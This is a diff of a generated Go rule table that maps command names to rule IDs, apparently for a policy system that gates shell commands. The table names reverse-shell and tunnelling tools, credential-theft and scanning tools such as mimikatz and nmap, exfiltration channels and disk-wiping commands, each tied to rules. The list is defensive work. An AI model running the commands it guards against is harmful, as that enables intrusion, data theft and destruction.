 				Name:    "kill-port",
 				Program: 63,
-				Rules:   []uint16{326},
+				Rules:   []uint16{330},
 			},
 			nameEntry{
 				Name:    "killall",
 				Program: 63,
-				Rules:   []uint16{321, 323, 324, 326, 356, 373},
+				Rules:   []uint16{325, 327, 328, 330, 360, 377},
 			},
 			nameEntry{
 				Name:    "killall5",
 				Program: -1,
-				Rules:   []uint16{321, 358},
+				Rules:   []uint16{325, 362},
 			},
 			nameEntry{
 				Name:    "kilo",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "kilocode",
@@ -12435,7 +12522,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kind",
 				Program: 61,
-				Rules:   []uint16{179},
+				Rules:   []uint16{183},
 			},
 			nameEntry{
 				Name:    "kiro",
@@ -12444,32 +12531,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kiro-cli",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "kitten",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "kitty",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "kldload",
 				Program: -1,
-				Rules:   []uint16{320},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "knex",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104, 105},
+				Rules:   []uint16{105, 106, 108, 109},
 			},
 			nameEntry{
 				Name:    "knife",
 				Program: 61,
-				Rules:   []uint16{127, 181},
+				Rules:   []uint16{131, 185},
 			},
 			nameEntry{
 				Name:    "knip",
@@ -12478,17 +12565,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ko",
 				Program: -1,
-				Rules:   []uint16{287},
+				Rules:   []uint16{291},
 			},
 			nameEntry{
 				Name:    "kopia",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "kops",
 				Program: 61,
-				Rules:   []uint16{158, 176},
+				Rules:   []uint16{162, 180},
 			},
 			nameEntry{
 				Name:    "kotlin",
@@ -12501,7 +12588,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "koyeb",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "krew",
@@ -12510,7 +12597,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ksh",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "ktlint",
@@ -12519,12 +12606,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kubeadm",
 				Program: 61,
-				Rules:   []uint16{158, 176},
+				Rules:   []uint16{162, 180},
 			},
 			nameEntry{
 				Name:    "kubectl",
 				Program: 61,
-				Rules:   []uint16{18, 19, 22, 153, 154, 155, 156, 157, 158, 159, 160, 296},
+				Rules:   []uint16{18, 19, 22, 157, 158, 159, 160, 161, 162, 163, 164, 300},
 			},
 			nameEntry{
 				Name:    "kubectx",
@@ -12541,12 +12628,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kubespray",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "kustomize",
 				Program: 61,
-				Rules:   []uint16{161},
+				Rules:   []uint16{165},
 			},
 			nameEntry{
 				Name:    "kwallet-query",
@@ -12560,7 +12647,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lambda-cloud",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "last",
@@ -12581,7 +12668,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "launchctl",
 				Program: 64,
-				Rules:   []uint16{17, 313, 324, 332, 362, 373},
+				Rules:   []uint16{17, 317, 328, 336, 366, 377},
 			},
 			nameEntry{
 				Name:    "lazydocker",
@@ -12618,7 +12705,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ldconfig",
 				Program: 64,
-				Rules:   []uint16{332},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "ldd",
@@ -12635,7 +12722,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lerna",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "less",
@@ -12651,7 +12738,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lftp",
 				Program: 56,
-				Rules:   []uint16{216, 290, 291},
+				Rules:   []uint16{220, 294, 295},
 			},
 			nameEntry{
 				Name:    "libsql",
@@ -12668,17 +12755,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ligolo",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "limactl",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "linkerd",
 				Program: 61,
-				Rules:   []uint16{161},
+				Rules:   []uint16{165},
 			},
 			nameEntry{
 				Name:    "links",
@@ -12687,17 +12774,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "linode",
 				Program: 61,
-				Rules:   []uint16{18, 142},
+				Rules:   []uint16{18, 146},
 			},
 			nameEntry{
 				Name:    "linode-cli",
 				Program: 61,
-				Rules:   []uint16{18, 142, 185},
+				Rules:   []uint16{18, 146, 189},
 			},
 			nameEntry{
 				Name:    "linpeas.sh",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "lint-staged",
@@ -12710,7 +12797,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "liquibase",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "lit",
@@ -12724,12 +12811,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "litestream",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "live-server",
 				Program: 45,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "ll",
@@ -12769,7 +12856,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "localtunnel",
 				Program: 45,
-				Rules:   []uint16{281, 282},
+				Rules:   []uint16{285, 286},
 			},
 			nameEntry{
 				Name:    "locate",
@@ -12782,7 +12869,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "log",
 				Program: 64,
-				Rules:   []uint16{206},
+				Rules:   []uint16{210},
 			},
 			nameEntry{
 				Name:    "logger",
@@ -12791,12 +12878,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "loginctl",
 				Program: 64,
-				Rules:   []uint16{323, 327},
+				Rules:   []uint16{327, 331},
 			},
 			nameEntry{
 				Name:    "logoff",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name: "logout",
@@ -12812,7 +12899,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "losetup",
 				Program: 64,
-				Rules:   []uint16{223, 332},
+				Rules:   []uint16{227, 336},
 			},
 			nameEntry{
 				Name:    "lpass",
@@ -12868,7 +12955,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lt",
 				Program: 45,
-				Rules:   []uint16{281, 282},
+				Rules:   []uint16{285, 286},
 			},
 			nameEntry{
 				Name:    "ltrace",
@@ -12889,7 +12976,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "luarocks",
 				Program: 44,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "luigi",
@@ -12906,12 +12993,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lvreduce",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "lvremove",
 				Program: 64,
-				Rules:   []uint16{186, 210, 223},
+				Rules:   []uint16{190, 214, 227},
 			},
 			nameEntry{
 				Name:    "lvs",
@@ -12920,7 +13007,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lxc",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "lxd",
@@ -12941,12 +13028,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "maas",
 				Program: 61,
-				Rules:   []uint16{142, 171},
+				Rules:   []uint16{146, 175},
 			},
 			nameEntry{
 				Name:    "machinectl",
 				Program: -1,
-				Rules:   []uint16{315},
+				Rules:   []uint16{319},
 			},
 			nameEntry{
 				Name:    "madge",
@@ -12959,17 +13046,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mage",
 				Program: 32,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "magic-wormhole",
 				Program: 56,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "magic-wormhole.js",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "magick",
@@ -12978,17 +13065,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mail",
 				Program: -1,
-				Rules:   []uint16{281, 290, 292},
+				Rules:   []uint16{285, 294, 296},
 			},
 			nameEntry{
 				Name:    "mailx",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "make",
 				Program: 29,
-				Rules:   []uint16{98, 99},
+				Rules:   []uint16{102, 103},
 			},
 			nameEntry{
 				Name:    "mamba",
@@ -12997,7 +13084,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "manage.py",
 				Program: 48,
-				Rules:   []uint16{101, 103, 104},
+				Rules:   []uint16{105, 107, 108},
 			},
 			nameEntry{
 				Name: "mapfile",
@@ -13009,7 +13096,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mariadb",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "mariadb-dump",
@@ -13026,7 +13113,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "masscan",
 				Program: 55,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "mate",
@@ -13047,7 +13134,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mc",
 				Program: 61,
-				Rules:   []uint16{133, 134, 280, 290},
+				Rules:   []uint16{137, 138, 284, 294},
 			},
 			nameEntry{
 				Name:    "md5",
@@ -13060,7 +13147,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mdadm",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "mdbook",
@@ -13081,12 +13168,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "medusa",
 				Program: 48,
-				Rules:   []uint16{40, 104},
+				Rules:   []uint16{40, 108},
 			},
 			nameEntry{
 				Name:    "meilisearch",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "memcached-tool",
@@ -13095,7 +13182,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "memsql-ops",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "meson",
@@ -13104,7 +13191,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "metal",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "micro",
@@ -13117,7 +13204,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "microk8s.kubectl",
 				Program: -1,
-				Rules:   []uint16{153},
+				Rules:   []uint16{157},
 			},
 			nameEntry{
 				Name:    "micromamba",
@@ -13130,12 +13217,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "migrate",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "mikro-orm",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "mill",
@@ -13144,12 +13231,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mimikatz",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "mina",
 				Program: -1,
-				Rules:   []uint16{127},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "mini",
@@ -13158,12 +13245,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "minikube",
 				Program: 61,
-				Rules:   []uint16{179},
+				Rules:   []uint16{183},
 			},
 			nameEntry{
 				Name:    "miniserve",
 				Program: -1,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "minitest",
@@ -13176,7 +13263,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mise",
 				Program: 44,
-				Rules:   []uint16{98, 314},
+				Rules:   []uint16{102, 318},
 			},
 			nameEntry{
 				Name:    "mitmdump",
@@ -13189,12 +13276,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mix",
 				Program: 48,
-				Rules:   []uint16{101, 104, 285, 286},
+				Rules:   []uint16{105, 108, 289, 290},
 			},
 			nameEntry{
 				Name:    "mkcert",
 				Program: 64,
-				Rules:   []uint16{344},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "mkdir",
@@ -13207,7 +13294,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mke2fs",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "mkfifo",
@@ -13216,17 +13303,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mkfs",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "mkinitcpio",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "mkswap",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "mktemp",
@@ -13259,12 +13346,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "modal",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "modprobe",
 				Program: 64,
-				Rules:   []uint16{320},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "mods",
@@ -13277,27 +13364,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mokutil",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "mongo",
 				Program: 58,
-				Rules:   []uint16{89, 113},
+				Rules:   []uint16{93, 117},
 			},
 			nameEntry{
 				Name:    "mongocli",
 				Program: 61,
-				Rules:   []uint16{146, 185},
+				Rules:   []uint16{150, 189},
 			},
 			nameEntry{
 				Name:    "mongod",
 				Program: -1,
-				Rules:   []uint16{109},
+				Rules:   []uint16{113},
 			},
 			nameEntry{
 				Name:    "mongodump",
 				Program: 60,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "mongoexport",
@@ -13310,17 +13397,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mongorestore",
 				Program: 59,
-				Rules:   []uint16{91},
+				Rules:   []uint16{95},
 			},
 			nameEntry{
 				Name:    "mongosh",
 				Program: 58,
-				Rules:   []uint16{89, 113},
+				Rules:   []uint16{93, 117},
 			},
 			nameEntry{
 				Name:    "moon",
 				Program: 45,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "more",
@@ -13329,7 +13416,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mosh",
 				Program: 56,
-				Rules:   []uint16{325},
+				Rules:   []uint16{329},
 			},
 			nameEntry{
 				Name:    "most",
@@ -13338,7 +13425,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mount",
 				Program: 64,
-				Rules:   []uint16{332, 349, 350},
+				Rules:   []uint16{336, 353, 354},
 			},
 			nameEntry{
 				Name:    "mrsk",
@@ -13351,12 +13438,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "msbuild.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "msfconsole",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "msfvenom",
@@ -13366,27 +13453,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mshta",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "mshta.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "msiexec",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "msiexec.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "msmtp",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "mssql-cli",
@@ -13399,32 +13486,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "multipass",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "multipath",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "mutt",
 				Program: -1,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "mv",
 				Program: 19,
-				Rules:   []uint16{212},
+				Rules:   []uint16{216},
 			},
 			nameEntry{
 				Name:    "mvn",
 				Program: 33,
-				Rules:   []uint16{105, 285},
+				Rules:   []uint16{109, 289},
 			},
 			nameEntry{
 				Name:    "mvnw",
 				Program: 33,
-				Rules:   []uint16{105, 285},
+				Rules:   []uint16{109, 289},
 			},
 			nameEntry{
 				Name:    "mycli",
@@ -13437,7 +13524,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "myisamchk",
 				Program: -1,
-				Rules:   []uint16{109},
+				Rules:   []uint16{113},
 			},
 			nameEntry{
 				Name:    "mypy",
@@ -13446,17 +13533,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mysql",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "mysql_install_db",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{114},
 			},
 			nameEntry{
 				Name:    "mysqladmin",
 				Program: 58,
-				Rules:   []uint16{84, 107, 109},
+				Rules:   []uint16{88, 111, 113},
 			},
 			nameEntry{
 				Name:    "mysqldump",
@@ -13465,7 +13552,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mysqlimport",
 				Program: 59,
-				Rules:   []uint16{91},
+				Rules:   []uint16{95},
 			},
 			nameEntry{
 				Name:    "n",
@@ -13482,7 +13569,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nats",
 				Program: -1,
-				Rules:   []uint16{90, 107},
+				Rules:   []uint16{94, 111},
 			},
 			nameEntry{
 				Name:    "nawk",
@@ -13491,27 +13578,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nbtscan",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "nc",
 				Program: 55,
-				Rules:   []uint16{116, 272, 292},
+				Rules:   []uint16{120, 276, 296},
 			},
 			nameEntry{
 				Name:    "nc.openbsd",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "nc.traditional",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "ncat",
 				Program: 55,
-				Rules:   []uint16{116, 272, 292},
+				Rules:   []uint16{120, 276, 296},
 			},
 			nameEntry{
 				Name:    "ncdu",
@@ -13524,7 +13611,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ncftpput",
 				Program: -1,
-				Rules:   []uint16{290, 291},
+				Rules:   []uint16{294, 295},
 			},
 			nameEntry{
 				Name:    "neato",
@@ -13533,7 +13620,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nebius",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "neo4j",
@@ -13542,12 +13629,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "neo4j-admin",
 				Program: -1,
-				Rules:   []uint16{91, 107},
+				Rules:   []uint16{95, 111},
 			},
 			nameEntry{
 				Name:    "neo4j-client",
 				Program: -1,
-				Rules:   []uint16{111},
+				Rules:   []uint16{115},
 			},
 			nameEntry{
 				Name:    "neofetch",
@@ -13556,32 +13643,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "neon",
 				Program: 61,
-				Rules:   []uint16{18, 27, 146},
+				Rules:   []uint16{18, 27, 150},
 			},
 			nameEntry{
 				Name:    "neonctl",
 				Program: 61,
-				Rules:   []uint16{18, 27, 146, 185},
+				Rules:   []uint16{18, 27, 150, 189},
 			},
 			nameEntry{
 				Name:    "nerdctl",
 				Program: 62,
-				Rules:   []uint16{36, 43, 162, 163, 165, 166, 167, 168, 169, 170, 177, 287},
+				Rules:   []uint16{36, 43, 166, 167, 169, 170, 171, 172, 173, 174, 181, 291},
 			},
 			nameEntry{
 				Name:    "net",
 				Program: 64,
-				Rules:   []uint16{319, 324, 360},
+				Rules:   []uint16{323, 328, 364},
 			},
 			nameEntry{
 				Name:    "net.exe",
 				Program: -1,
-				Rules:   []uint16{360},
+				Rules:   []uint16{364},
 			},
 			nameEntry{
 				Name:    "netcat",
 				Program: 55,
-				Rules:   []uint16{116, 272},
+				Rules:   []uint16{120, 276},
 			},
 			nameEntry{
 				Name:    "netexec",
@@ -13591,17 +13678,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "netlify",
 				Program: 61,
-				Rules:   []uint16{18, 27, 37, 124, 146},
+				Rules:   []uint16{18, 27, 37, 128, 150},
 			},
 			nameEntry{
 				Name:    "netlify-cli",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "netsh",
 				Program: -1,
-				Rules:   []uint16{330, 360},
+				Rules:   []uint16{334, 364},
 			},
 			nameEntry{
 				Name:    "netstat",
@@ -13610,12 +13697,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "networksetup",
 				Program: 55,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "newgrp",
 				Program: -1,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "newrelic",
@@ -13624,7 +13711,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "newusers",
 				Program: -1,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "next",
@@ -13633,7 +13720,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nft",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "ng",
@@ -13646,17 +13733,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ngrok",
 				Program: 45,
-				Rules:   []uint16{146, 282},
+				Rules:   []uint16{150, 286},
 			},
 			nameEntry{
 				Name:    "nhost",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "ni",
 				Program: 39,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "nice",
@@ -13669,7 +13756,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nikto",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "nim",
@@ -13686,12 +13773,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nitric",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "nix",
 				Program: 32,
-				Rules:   []uint16{296},
+				Rules:   []uint16{300},
 			},
 			nameEntry{
 				Name:    "nix-build",
@@ -13708,12 +13795,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nix-env",
 				Program: 44,
-				Rules:   []uint16{363},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "nix-shell",
 				Program: 32,
-				Rules:   []uint16{296},
+				Rules:   []uint16{300},
 			},
 			nameEntry{
 				Name:    "nixos-rebuild",
@@ -13730,22 +13817,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nmap",
 				Program: 55,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "nmcli",
 				Program: 55,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "node",
 				Program: 45,
-				Rules:   []uint16{301, 302},
+				Rules:   []uint16{305, 306},
 			},
 			nameEntry{
 				Name:    "node-pg-migrate",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "nodejs",
@@ -13762,7 +13849,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nodetool",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "nohup",
@@ -13771,17 +13858,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nomad",
 				Program: 61,
-				Rules:   []uint16{17, 171, 175},
+				Rules:   []uint16{17, 175, 179},
 			},
 			nameEntry{
 				Name:    "nopaste",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "northflank",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "nose2",
@@ -13799,7 +13886,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nova",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "now",
@@ -13812,12 +13899,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "np",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "npm",
 				Program: 38,
-				Rules:   []uint16{18, 28, 37, 98, 99, 285, 286, 296, 297, 306},
+				Rules:   []uint16{18, 28, 37, 102, 103, 289, 290, 300, 301, 310},
 			},
 			nameEntry{
 				Name:    "npm-run-all",
@@ -13830,37 +13917,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "npx",
 				Program: 40,
-				Rules:   []uint16{285, 293, 296, 300},
+				Rules:   []uint16{289, 297, 300, 304},
 			},
 			nameEntry{
 				Name:    "nr",
 				Program: 39,
-				Rules:   []uint16{98, 99},
+				Rules:   []uint16{102, 103},
 			},
 			nameEntry{
 				Name:    "nsenter",
 				Program: 62,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "nslookup",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "ntl",
 				Program: 61,
-				Rules:   []uint16{27, 146},
+				Rules:   []uint16{27, 150},
 			},
 			nameEntry{
 				Name:    "ntpdate",
 				Program: -1,
-				Rules:   []uint16{352},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "nuget",
 				Program: 34,
-				Rules:   []uint16{285, 286},
+				Rules:   []uint16{289, 290},
 			},
 			nameEntry{
 				Name:    "numfmt",
@@ -13885,22 +13972,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nvme",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "nvram",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "nwipe",
 				Program: -1,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "nx",
 				Program: 32,
-				Rules:   []uint16{98, 285},
+				Rules:   []uint16{102, 289},
 			},
 			nameEntry{
 				Name:    "nyc",
@@ -13913,7 +14000,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oc",
 				Program: 61,
-				Rules:   []uint16{18, 19, 22, 36, 37, 153, 154, 155, 156, 157, 158, 159, 160},
+				Rules:   []uint16{18, 19, 22, 36, 37, 157, 158, 159, 160, 161, 162, 163, 164},
 			},
 			nameEntry{
 				Name:    "ocamlc",
@@ -13926,12 +14013,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oci",
 				Program: 61,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "ocm",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "octave",
@@ -13942,13 +14029,18 @@ var shipped = Set{
